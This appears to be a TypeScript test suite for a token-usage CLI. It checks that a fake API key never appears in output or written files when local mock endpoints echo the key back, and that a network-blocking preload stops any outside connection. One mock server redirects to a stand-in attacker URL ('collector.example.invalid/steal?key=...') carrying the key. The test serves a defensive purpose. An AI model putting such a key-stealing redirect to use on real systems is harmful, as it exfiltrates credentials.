// A fake API key, set the way a user sets it (an environment variable named in the budget config),
// must never appear in anything the CLI prints or writes — even when every endpoint is hostile and
// echoes the key back in its body, its error message and a redirect Location. And the CLI makes no
// connection except to the configured local test servers (network blocked by a preload).
import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as esbuild from 'esbuild';
import { sharedCli, unitCommands } from '../helpers/cliBundle';
import { sendJson, startHttp, type LocalServer } from '../helpers/faultServer';
import { claudeAssistantLine, codexGoodLines, joinLines } from '../helpers/logLines';

const KEY = 'sk-ant-admin01-SECRET-d3adb33f-0123456789abcdef';
const repo = path.resolve(__dirname, '..', '..');
const blockNetwork = path.join(repo, 'test', 'helpers', 'blockNetwork.cjs');

/** The forms a leaked key could take in text. */
function keyForms(key: string): string[] {
  return [key, encodeURIComponent(key), Buffer.from(key).toString('base64'), key.slice(8, 32)];
}

function assertNoKey(text: string, where: string): void {
  for (const form of keyForms(KEY)) assert.ok(!text.includes(form), `${where} contains the key (${form}):\n${text.slice(0, 2_000)}`);
}

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await fs.readdir(dir, { withFileTypes: true }).catch(() => [])) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await filesUnder(full)));
    else if (entry.isFile()) out.push(full);
  }
  return out;
}

interface CliRun {
  code: number | null;
  stdout: string;
  stderr: string;
}

describe('secrets and network: the key never leaks, nothing but the configured endpoints is contacted', function () {
  this.timeout(120_000);
  let home: string;
  let bundleDir: string;
  let cliJs: string;
  let configFile: string;
  let netLog: string;
  const servers: LocalServer[] = [];

  before(async () => {
    home = await fs.mkdtemp(path.join(os.tmpdir(), 'tokenmeter-secrets-'));
    bundleDir = path.join(home, 'bundle');
    // The CLI built from the sources under test as esbuild.config.mjs lays out dist/ (helpers/cliBundle.ts), and the
    // budget poller alone beside it.
    cliJs = await sharedCli(unitCommands);
    const common = { bundle: true, platform: 'node' as const, format: 'cjs' as const, target: 'node20', external: ['vscode'], logLevel: 'error' as const };
    await esbuild.build({ ...common, entryPoints: { pollBudgets: path.join(repo, 'test', 'helpers', 'pollBudgetsMain.ts') }, outdir: bundleDir });

    // Logs to read (so the scan path runs too), one Claude and one Codex.
    const project = path.join(home, 'claude', 'projects', '-home-dev-repo');
    await fs.mkdir(project, { recursive: true });
    // Plus two bad lines (a torn record and a negative count): skipped, and the count shown.
    await fs.writeFile(
      path.join(project, 's.jsonl'),
      joinLines([
        claudeAssistantLine({ id: 'k1', usage: { input: 10, output: 20, cacheWrite: 0, cacheRead: 0 }, timestamp: new Date().toISOString() }),
        '{"type":"assistant","message":{"model":"m","usage":{"input_tokens":',
        claudeAssistantLine({ id: 'k2', usage: { input: -5, output: 1, cacheWrite: 0, cacheRead: 0 }, timestamp: new Date().toISOString() }),
      ]),
    );
    const day = path.join(home, 'codex', 'sessions', '2025', '09', '01');
    await fs.mkdir(day, { recursive: true });
    await fs.writeFile(path.join(day, 'rollout-2025-09-01T10-00-00-0199a0aa-1111-2222-3333-444455556666.jsonl'), joinLines(codexGoodLines('0199a0aa-1111-2222-3333-444455556666', [{ input: 100, cached: 10, output: 5 }])));

    // Hostile endpoints, each echoing the key a different way.
    const echoAuth = await startHttp((_req, res) => sendJson(res, 401, { error: { message: `Authentication Error, invalid key ${KEY} (Bearer ${KEY})`, type: 'auth_error' } }));
    const redirectOut = await startHttp((_req, res) => {
      res.writeHead(302, { location: `http://collector.example.invalid/steal?key=${encodeURIComponent(KEY)}&raw=${KEY}` });
      res.end(`moved, key ${KEY}`);
    });
    const html500 = await startHttp((_req, res) => {
      res.writeHead(500, { 'content-type': 'text/html' });
      res.end(`<html><body>Internal error for key ${KEY}</body></html>`);
    });
    const shapeEcho = await startHttp((_req, res) => sendJson(res, 200, { data: { budget: { left: KEY, cap: 10, resets: KEY } } }));
    const exceeded = await startHttp((_req, res) => sendJson(res, 429, { error: { message: `Budget has been exceeded! Key=${KEY} Current cost: 10.2, Max budget: 10.0`, type: 'budget_exceeded' } }));
    const badCurrency = await startHttp((_req, res) => sendJson(res, 200, { data: [{ starting_at: '2026-11-01T00:00:00Z', results: [{ amount: '1', currency: KEY }] }], has_more: false }));
    const good = await startHttp((_req, res) => sendJson(res, 200, { key: KEY, info: { spend: 1.5, max_budget: 20, key_alias: KEY } }));
    servers.push(echoAuth, redirectOut, html500, shapeEcho, exceeded, badCurrency, good);
    const env = 'TM_SECRET_TEST_KEY';
    configFile = path.join(home, 'budgets.json');
    await fs.writeFile(
      configFile,
      JSON.stringify({
        sources: [
          { type: 'litellm', name: 'echo-auth', baseUrl: echoAuth.url, apiKeyEnv: env },
          { type: 'litellm', name: 'redirect-out', baseUrl: redirectOut.url, apiKeyEnv: env },
          { type: 'openrouter', name: 'html-500', baseUrl: html500.url, apiKeyEnv: env },
          { type: 'json', name: 'shape-echo', url: `${shapeEcho.url}/budget`, fields: { remaining: 'data.budget.left', limit: 'data.budget.cap', resetsAt: 'data.budget.resets' }, apiKeyEnv: env, apiKeyHeader: 'X-Api-Key' },
          { type: 'litellm', name: 'exceeded', baseUrl: exceeded.url, apiKeyEnv: env },
          { type: 'anthropic-admin', name: 'bad-currency', baseUrl: badCurrency.url, apiKeyEnv: env },
          { type: 'litellm', name: 'good', baseUrl: good.url, apiKeyEnv: env },
        ],
      }),
    );
    netLog = path.join(home, 'net.log');
  });

  after(async () => {
    await Promise.all(servers.map((s) => s.close()));
    await fs.rm(home, { recursive: true, force: true });
  });

  function cli(args: string[]): Promise<CliRun> {
    return new Promise((resolve) => {
      const program = args[0] === '--poll-budgets' ? [path.join(bundleDir, 'pollBudgets.js'), ...args.slice(1)] : [cliJs, ...args];
      const child = spawn(process.execPath, ['--require', blockNetwork, ...program], {
        env: {
          PATH: process.env.PATH,
          HOME: home,
          XDG_CACHE_HOME: path.join(home, 'cache'),
          XDG_STATE_HOME: path.join(home, 'state'),
          CLAUDE_CONFIG_DIR: path.join(home, 'claude'),
          CODEX_HOME: path.join(home, 'codex'),
          TM_SECRET_TEST_KEY: KEY,
          TOKENMETER_NET_LOG: netLog,
          NO_COLOR: '1',
        },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
  }

  function assertBudgets(out: { budgets?: { source: string; error: string | null; spent: number | null }[] }, raw: string): void {
    assert.ok(Array.isArray(out.budgets), `budgets listed: ${raw.slice(0, 500)}`);
    const byName = new Map(out.budgets.map((b) => [b.source, b]));
    for (const name of ['echo-auth', 'redirect-out', 'html-500', 'shape-echo', 'bad-currency']) assert.ok(byName.get(name)?.error, `${name} reports an error`);
    assert.equal(byName.get('good')?.spent, 1.5);
    assert.equal(byName.get('exceeded')?.error, null);
  }

  it('polling hostile endpoints (the status --config code path) prints every failure without the key', async () => {
    const run = await cli(['--poll-budgets', configFile]);
    assertNoKey(run.stdout, 'stdout');
    assertNoKey(run.stderr, 'stderr');
    assertBudgets(JSON.parse(run.stdout), run.stdout);
    assert.equal(run.code, 0, 'one source answered');
  });

  it('status --json --config lists every hostile endpoint\'s failure without the key', async () => {
    const run = await cli(['status', '--json', '--config', configFile]);
    assertNoKey(run.stdout, 'stdout');
    assertNoKey(run.stderr, 'stderr');
    const out = JSON.parse(run.stdout) as { budgets?: { source: string; error: string | null; spent: number | null }[]; today?: unknown };
    assert.ok(out.today, 'the status snapshot was printed');
    assert.equal((out as { scan?: { malformedLines?: number } }).scan?.malformedLines, 2, 'skipped lines are counted and shown');
    assertBudgets(out, run.stdout);
    assert.equal(run.code, 0, 'one source answered');
  });

  it('status (text) and daily --json print no key either, and nothing written to disk holds it', async () => {
    for (const args of [['status', '--config', configFile], ['daily', '--json'], ['daily'], ['status', '--json']]) {
      const run = await cli(args);
      assertNoKey(run.stdout + run.stderr, args.join(' '));
      assert.ok(run.stdout.length > 0, `${args.join(' ')} printed something`);
      if (args.join(' ') === 'daily') assert.match(run.stdout, /2 malformed log lines skipped/);
    }
    const written = (await filesUnder(home)).filter((f) => !f.startsWith(bundleDir) && f !== configFile && f !== netLog);
    assert.ok(written.some((f) => f.includes(`${path.sep}cache${path.sep}`)), `the index was written: ${written.join(', ')}`);
    for (const f of written) assertNoKey(await fs.readFile(f, 'latin1'), f);
  });

  it('contacts only the local test servers: no other connection or DNS lookup is attempted', async () => {
    const entries = (await fs.readFile(netLog, 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { kind: string; host: string; allowed: boolean });
    assert.ok(entries.some((e) => e.kind.includes('connect') && e.host === '127.0.0.1'), 'the preload saw the local requests (it is in force)');
    const outside = entries.filter((e) => !e.allowed);
    assert.deepEqual(outside, [], 'attempted non-loopback connections');
  });

  it('the network block itself works: a request to another host is refused and recorded', async () => {
    const probe = path.join(home, 'probe.js');
    await fs.writeFile(probe, "fetch('http://collector.example.invalid/').then(() => process.exit(0), (e) => { console.log(String(e.cause?.message ?? e.message)); process.exit(3); });");
    const log = path.join(home, 'probe.log');
    const run = await new Promise<CliRun>((resolve) => {
      const child = spawn(process.execPath, ['--require', blockNetwork, probe], { env: { ...process.env, TOKENMETER_NET_LOG: log }, stdio: ['ignore', 'pipe', 'pipe'] });
      let stdout = '';
      child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
      child.on('close', (code) => resolve({ code, stdout, stderr: '' }));
    });
    assert.equal(run.code, 3);
    assert.match(run.stdout, /blocked by the test/);
    assert.match(await fs.readFile(log, 'utf8'), /"host":"collector.example.invalid","allowed":false/);
  });
});
